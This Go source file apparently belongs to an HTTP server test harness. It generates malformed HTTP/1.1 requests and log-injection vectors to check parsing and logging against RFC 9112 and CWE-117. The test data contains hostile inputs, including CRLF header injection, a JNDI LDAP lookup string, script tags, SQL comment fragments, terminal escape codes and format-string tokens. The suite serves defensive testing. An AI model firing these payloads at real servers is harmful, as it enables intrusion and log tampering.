package attack

import (
	"fmt"
	"strings"
)

// malformed are bytes that are no HTTP/1.1, or hardly.
func malformed() attackClass {
	c := attackClass{name: "Malformed messages", guards: "RFC 9112 sections 2 to 5 (MAL-*, RFC9112-*, COMP-VERSION-*, COMP-*)"}
	line := "GET {path} HTTP/1.1\r\n"
	rest := "Host: {host}\r\n{auth}\r\n"
	for _, row := range []struct{ id, raw string }{
		{"RFC9110-5.6.2-SP-BEFORE-COLON", line + rest + "X-Test : {hostile}\r\n\r\n"}, {"RFC9112-3-MULTI-SP-REQUEST-LINE", "GET  {path} HTTP/1.1\r\n" + rest + "\r\n"},
		{"RFC9112-7.1-MISSING-HOST", line + "{auth}\r\n\r\n"}, {"RFC9112-2.3-INVALID-VERSION", "GET {path} HTTP/9.9\r\n" + rest + "\r\n"}, {"RFC9112-5-EMPTY-HEADER-NAME", line + rest + ": {hostile}\r\n\r\n"},
		{"RFC9112-3-CR-ONLY-LINE-ENDING", "GET {path} HTTP/1.1\rHost: {host}\r\n{auth}\r\n\r\n"}, {"RFC9112-3-MISSING-TARGET", "GET HTTP/1.1\r\n" + rest + "\r\n"}, {"RFC9112-2.3-HTTP09-REQUEST", "GET {path}\r\n\r\n"},
		{"RFC9112-5-INVALID-HEADER-NAME", line + rest + "Bad[Name: {hostile}\r\n\r\n"}, {"RFC9112-5-HEADER-NO-COLON", line + rest + "NoColonHere{hostile}\r\n\r\n"}, {"COMP-WHITESPACE-BEFORE-HEADERS", line + " \r\n" + rest + "\r\n"},
		{"a folded line first", line + " X: {hostile}\r\n" + rest + "\r\n"}, {"COMP-REQUEST-LINE-TAB", "GET\t{path} HTTP/1.1\r\n" + rest + "\r\n"}, {"a tab before the version", "GET {path}\tHTTP/1.1\r\n" + rest + "\r\n"},
		{"COMP-VERSION-MISSING-MINOR", "GET {path} HTTP/1\r\n" + rest + "\r\n"}, {"COMP-VERSION-LEADING-ZEROS", "GET {path} HTTP/01.01\r\n" + rest + "\r\n"}, {"COMP-VERSION-WHITESPACE", "GET {path} HTTP/ 1.1\r\n" + rest + "\r\n"},
		{"COMP-VERSION-CASE", "GET {path} http/1.1\r\n" + rest + "\r\n"}, {"a version with more behind it", "GET {path} HTTP/1.1 {hostile}\r\n" + rest + "\r\n"}, {"HTTP/1.1x", "GET {path} HTTP/1.1x\r\n" + rest + "\r\n"}, {"HTTP/0.9", "GET {path} HTTP/0.9\r\n" + rest + "\r\n"},
		{"COMP-SPACE-IN-TARGET", "GET {path} {hostile} HTTP/1.1\r\n" + rest + "\r\n"}, {"MAL-NUL-IN-URL", "GET {path}\x00 HTTP/1.1\r\n" + rest + "\r\n"}, {"MAL-CONTROL-CHARS-HEADER", line + rest + "X-Test: abc\x07\x08\x0b{hostile}\r\n\r\n"},
		{"MAL-NUL-IN-HEADER-VALUE", line + rest + "Accept: val\x00ue\r\n\r\n"}, {"MAL-NON-ASCII-HEADER-NAME", line + rest + "X-T\u00ebst: {hostile}\r\n\r\n"}, {"MAL-WHITESPACE-ONLY-LINE", "   \r\n\r\n"}, {"MAL-BINARY-GARBAGE", "\x00\xff\xfe\x01\x80{hostile}\r\n\r\n"},
		{"MAL-LONG-URL", "GET {path}/" + strings.Repeat("A", 100_000) + " HTTP/1.1\r\n" + rest + "\r\n"}, {"MAL-LONG-HEADER-VALUE", line + rest + "X-Big: " + strings.Repeat("B", 100_000) + "\r\n\r\n"}, {"MAL-LONG-HEADER-NAME", line + rest + strings.Repeat("A", 100_000) + ": v\r\n\r\n"},
		{"MAL-LONG-METHOD", strings.Repeat("A", 100_000) + " {path} HTTP/1.1\r\n" + rest + "\r\n"}, {"MAL-MANY-HEADERS", line + rest + many(10_000) + "\r\n"}, {"MAL-URL-BACKSLASH", "GET {path}\\file HTTP/1.1\r\n" + rest + "\r\n"},
		{"MAL-URL-OVERLONG-UTF8", "GET {path}\xc0\xaf HTTP/1.1\r\n" + rest + "\r\n"}, {"MAL-URL-PERCENT-NULL", "GET {path}%00.html HTTP/1.1\r\n" + rest + "\r\n"}, {"MAL-URL-PERCENT-CRLF", "GET {path}%0d%0aX-Injected:%20true HTTP/1.1\r\n" + rest + "\r\n"},
		{"MAL-NON-ASCII-URL", "GET {path}\u00e9 HTTP/1.1\r\n" + rest + "\r\n"}, {"MAL-EMPTY-REQUEST, then lines", "\r\n\r\n\r\n\r\n"}, {"a status line", "HTTP/1.1 200 OK\r\n" + rest + "\r\n"}, {"DEL in a value", line + rest + "Accept: a\x7fb\r\n\r\n"},
		{"an escape sequence in a value", line + rest + "Accept: \x1b[31m{hostile}\r\n\r\n"}, {"a name with NUL", line + rest + "X\x00: {hostile}\r\n\r\n"}, {"a byte order mark first", "\ufeff" + line + rest + "\r\n"}, {"an equals sign for a colon", line + rest + "X={hostile}\r\n\r\n"},
	} {
		c.add(row.id, 0, row.raw)
	}
	for _, row := range []struct{ id, raw string }{
		{"RFC9112-2.2-BARE-LF-REQUEST-LINE", "GET {path} HTTP/1.1\n" + rest + "\r\n"}, {"COMP-LEADING-CRLF", "\r\n\r\n" + line + rest + "\r\n"}, {"RFC9112-5.1-OBS-FOLD", line + rest + "X-Test: {hostile}\r\n continued\r\n\r\n"}, {"all lines end in bare LF", strings.ReplaceAll(line+rest+"\r\n", "\r\n", "\n")},
		{"COMP-HTTP12-VERSION", "GET {path} HTTP/1.2\r\n" + rest + "\r\n"}, {"MAL-RANGE-OVERLAPPING", line + rest + "Range: bytes=" + strings.TrimSuffix(strings.Repeat("0-,", 500), ",") + "\r\n\r\n"}, {"COMP-RANGE-INVALID", line + rest + "Range: bytes=abc-xyz\r\n\r\n"},
		{"COMP-ACCEPT-NONSENSE", line + rest + "Accept: application/x-nonsense\r\n\r\n"}, {"COMP-HEAD-NO-BODY", "HEAD {path} HTTP/1.1\r\n" + rest + "\r\n"}, {"COMP-DUPLICATE-CT", "POST {path} HTTP/1.1\r\n" + rest + "Content-Length: 5\r\nContent-Type: text/plain\r\nContent-Type: text/html\r\n\r\nhello"},
		{"a name with an underscore", line + rest + "Content_Type: {hostile}\r\n\r\n"}, {"COMP-LONG-URL-OK", "GET {path}/" + strings.Repeat("a", 7900) + " HTTP/1.1\r\n" + rest + "\r\n"}, {"100 lines", line + rest + many(100) + "\r\n"},
	} {
		c.vectors = append(c.vectors, vector{id: row.id, raw: row.raw, reach: 1, may: true})
	}
	for _, row := range []struct{ id, raw string }{
		{"MAL-INCOMPLETE-REQUEST", line + rest + "X-Test: value"}, {"MAL-EMPTY-REQUEST", ""}, {"ends in the request line", "GET {pa"}, {"ends before the last line", line + rest}, {"one byte", "G"}, {"ends in CR", line + rest + "\r"},
	} {
		c.vectors = append(c.vectors, vector{id: row.id, raw: row.raw, cut: true})
	}
	return c
}

// many is a number of lines of a header.
func many(n int) string {
	var lines strings.Builder
	for i := range n {
		fmt.Fprintf(&lines, "X-H-%d: {hostile}\r\n", i)
	}
	return lines.String()
}

// injections are texts that would be more than text in a line of the log or in
// an answer.
func injections() attackClass {
	c := attackClass{name: "Log and error injection", guards: "CVE-2026-42507, CVE-2025-61724, CWE-117, CWE-209"}
	for i, text := range []string{
		"%0d%0a{\"level\":\"error\"}", "%0a{unlogged}", "\",\"level\":\"error\",\"x\":\"{unlogged}", "%22,%22class%22:%22{unlogged}", "%1b[31m{unlogged}", "%1b]0;{unlogged}%07", "{unlogged}%00", "%e2%80%a8{unlogged}",
		"%c2%85{unlogged}", "%ef%bb%bf{unlogged}", "%e2%80%ae{unlogged}", "{unlogged}%25n%25s", "%24{jndi:ldap://{unlogged}.example.com}", "<script>{unlogged}</script>", "\\u000a{unlogged}", "\\n{unlogged}", "{{unlogged}}", "';--{unlogged}",
	} {
		id := fmt.Sprint(i, " ", text)
		c.vectors = append(c.vectors,
			vector{id: id + ", in a path", raw: call("GET", "{path}/"+text, ""), reach: 1, may: true},
			vector{id: id + ", in a path that is not served", raw: call("GET", "/"+text+"/{mark}", "")},
			vector{id: id + ", in a query", raw: call("GET", "{path}?filter="+text, ""), reach: 1, may: true},
			vector{id: id + ", in a query that does not parse", raw: call("GET", "{path}?a=%zz&filter="+text, "")},
			vector{id: id + ", as a method", raw: call("X"+strings.ReplaceAll(text, " ", ""), "{path}", "")},
			vector{id: id + ", as an id", raw: call("GET", "/scim/../{mark}", "X-Request-Id: "+text+"\r\n")},
			vector{id: id + ", as a token", raw: "GET {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer " + text + "\r\n\r\n"},
			vector{id: id + ", as a host", raw: "GET /scim/../{mark} HTTP/1.1\r\nHost: " + text + "\r\n{auth}\r\n\r\n"},
			vector{id: id + ", as a name", raw: "GET /scim/../{mark} HTTP/1.1\r\nHost: {host}\r\n" + text + ": x\r\n\r\n"},
			vector{id: id + ", as a coding", raw: post("Transfer-Encoding: "+text+"\r\n", "")},
			vector{id: id + ", as a length", raw: post("Content-Length: "+text+"\r\n", "")},
			vector{id: id + ", as a version", raw: "GET {path} HTTP/" + text + "\r\nHost: {host}\r\n{auth}\r\n\r\n"},
			vector{id: id + ", as a size", raw: post(chunked, text+"\r\n"), broken: true, last: true},
			vector{id: id + ", in fields that pass", raw: get("Prefer: " + text + "\r\nUser-Agent: " + text + "\r\nAccept: " + text + "\r\nTraceparent: " + text + "\r\n"), reach: 1, may: true},
			vector{id: id + ", an expectation", raw: post("Expect: "+text+"\r\nContent-Length: 0\r\n", ""), reach: 1, may: true},
		)
	}
	return c
}
